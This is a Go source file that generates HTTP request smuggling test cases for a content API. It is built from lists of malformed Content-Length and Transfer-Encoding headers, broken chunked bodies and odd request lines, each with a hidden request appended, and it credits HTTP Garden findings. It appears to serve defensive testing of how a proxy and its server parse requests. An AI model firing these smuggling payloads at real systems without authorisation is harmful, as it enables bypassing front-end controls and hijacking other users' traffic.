// Package smuggling has requests that programs have read differently, so that a part of one was the
// next request for the other: at a proxy and the server behind it, that is an attack. They follow
// the findings that the HTTP Garden publishes (github.com/narfindustries/http-garden, TROPHIES.md),
// with paths of the content API, and cases of our own.
package smuggling

import "strings"

// Hidden is the path of the request that may hide in others.
const Hidden = "/v1/items/hidden"

// Requests returns the requests to a host, as bytes.
func Requests(host string) []string {
	hidden := "GET " + Hidden + " HTTP/1.1\r\nHost: " + host + "\r\n\r\n"
	get, post := "GET /v1/items/a HTTP/1.1\r\nHost: "+host+"\r\n", "POST /v1/items HTTP/1.1\r\nHost: "+host+"\r\n"
	chunked := "Transfer-Encoding: chunked\r\n"
	var all []string
	for _, begin := range []string{get, post} {
		for _, rest := range headers {
			all = append(all, begin+rest+"\r\n\r\n"+hidden)
		}
		for _, rest := range chunks {
			all = append(all, begin+chunked+"\r\n"+strings.ReplaceAll(rest, "HIDDEN", hidden))
		}
	}
	for _, line := range lines {
		all = append(all, strings.NewReplacer("HOST", host, "HIDDEN", hidden).Replace(line))
	}
	return all
}

// headers are the last header lines of a request that a hidden one follows directly.
var headers = []string{
	// The length, in forms that are not one.
	"Content-Length: 5\r\n\r\nhello", "Content-Length: 0", "Content-Length: ", "Content-Length:", "Content-Length: +5", "Content-Length: -5",
	"Content-Length: 0x5", "Content-Length: 5Z", "Content-Length: 1_0", "Content-Length: 05", "Content-Length: 5, 5", "Content-Length: 5,0",
	"Content-Length: 5\r\nContent-Length: 0", "Content-Length: 0\r\nContent-Length: 5", "Content-Length: \r\nContent-Length: 5",
	"Content-Length : 5", "Content-Length\t: 5", "Content-Length\x85: 5", "Content-Length\x00: 5", "Content-Length 5", "content-length:5",
	"Content-Length: \x0b5", "Content-Length: 5\x00", "Content-Length: 5\x0c", "Content-Length: 18446744073709551616", "Content_Length: 5",
	"\tContent-Length: 5", " Content-Length: 5", "X: y\r\n Content-Length: 5", "X: y\r\n\tContent-Length: 5", "Content-\r\nLength: 5",
	// The encoding, in forms that are not one.
	"Transfer-Encoding: chunked", "transfer-encoding:chunked", "Transfer-Encoding: chunked\r\nContent-Length: 5", "Content-Length: 5\r\nTransfer-Encoding: chunked",
	"Transfer-Encoding: ,chunked", "Transfer-Encoding: chunked,", "Transfer-Encoding: identity, chunked", "Transfer-Encoding: chunked, identity",
	"Transfer-Encoding: \xa0chunked\xa0", "Transfer-Encoding: \xffchunked", "Transfer-Encoding: \x0bchunked", "Transfer-Encoding: \"chunked\"",
	"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked", "Transfer-Encoding: CHUNKED",
	"Transfer-Encoding : chunked", "Transfer-Encoding\x85: chunked", "Transfer-\r\nEncoding: chunked", "X: y\r\n Transfer-Encoding: chunked",
	"Transfer-Encoding: xchunked", "Transfer-Encoding:\r\n chunked", "Transfer_Encoding: chunked",
	// Line ends that are not those of HTTP, and what may end the head.
	"X: y\rTransfer-Encoding: chunked", "X: y\nTransfer-Encoding: chunked", "X:\n", "X: y\r\n\rX: z", "\rX: y", "X: y\r", "X: y\r\r", "X: y\n\r", "X\r: y",
	":", ": y", ":\r\nX: y", "X", "X\x00: y", "X: \x00y", "\x00", "\xefX: y", "X y: z", "X(): y",
	// Other protocols, and who closes the connection.
	"Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA", "Upgrade: websocket\r\nConnection: Upgrade",
	"Expect: 100-continue\r\nContent-Length: 5", "Connection: close", "Connection: Content-Length\r\nContent-Length: 5", "Connection: keep-alive, close",
	"Trailer: Content-Length", "TE: chunked", "Host: other", "Host: other\r\nHost: third",
}

// chunks are bodies in chunks that are not well formed, or hide a request.
var chunks = []string{
	"0\r\n\r\nHIDDEN", "5\r\nhello\r\n0\r\n\r\nHIDDEN", "0_2e\r\n\r\nHIDDEN0\r\n\r\n", "0x0\r\n\r\nHIDDEN", "-0\r\n\r\nHIDDEN", "+0\r\n\r\nHIDDEN",
	"\r\n\r\nHIDDEN", "0\n\nHIDDEN", "0\r\n\nHIDDEN", "0\rX\r\n\r\nHIDDEN", "5\r\r;ABCD\r\n34\r\nE\r\n0\r\n\r\nHIDDEN", "2\r\r;a\r\n02\r\n41\r\n0\r\n\r\nHIDDEN",
	"0;a=b\r\n\r\nHIDDEN", "0;\x00\r\n\r\nHIDDEN", "0 \r\n\r\nHIDDEN", "          0\r\n\r\nHIDDEN", "0\r\nX: y\r\n\r\nHIDDEN", "0\r\nX:HIDDEN",
	"0\r\nContent-Length: 5\r\n\r\nHIDDEN", "a\r\n0123456789\n0\r\n\r\nHIDDEN", "1\r\nZZ\r\n0\r\n\r\nHIDDEN", "1Z\r\nZ\r\n0\r\n\r\nHIDDEN", "Z\r\nHIDDEN",
	"ffffffffffffffff\r\nHIDDEN", "10000000000000000\r\nHIDDEN", "000000000000000000000\r\n\r\nHIDDEN", "0\r\n\r\n\x00HIDDEN", "INVALID\r\nHIDDEN",
}

// lines are requests whose first line is odd.
var lines = []string{
	"GET /v1/items/a\nHTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a HTTP/\r\r1.1\r\nHost: HOST\r\n\r\nHIDDEN",
	"GET /v1/items/a HTTP/1.1\nHost: HOST\n\nHIDDEN", "GET /v1/items/a HTTP/1.1\rHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a HTTP/1.0\r\nHost: HOST\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nHIDDEN",
	"GET /v1/items/a HTTP/1.32\r\nHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a HTTP/4294967297.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a\r\n\r\nHIDDEN",
	"GET /v1/items/a  HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET  /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", " GET /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN",
	"GET\t/v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET\x0b/v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a HTTP/1.1 \r\nHost: HOST\r\n\r\nHIDDEN",
	"GET /v1/items/a HTTP/1.1 HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET /v1/items/a?x HTTP/1.1\r\nHIDDEN", "GET /v1/items/\x00a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN",
	"\r\n\r\nGET /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "\nGET /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "\x00 /v1/items HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN",
	"G<T /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "get /v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nHIDDEN",
	"GET http://other/v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET //v1/items/a HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN", "GET * HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN",
	"GET /v1/items/a HTTP/1.1\r\nHost: HOST\x00.other\r\n\r\nHIDDEN", "GET /v1/items/a HTTP/1.1\r\n Host: HOST\r\n\r\nHIDDEN", "CONNECT HOST:80 HTTP/1.1\r\nHost: HOST\r\n\r\nHIDDEN",
}
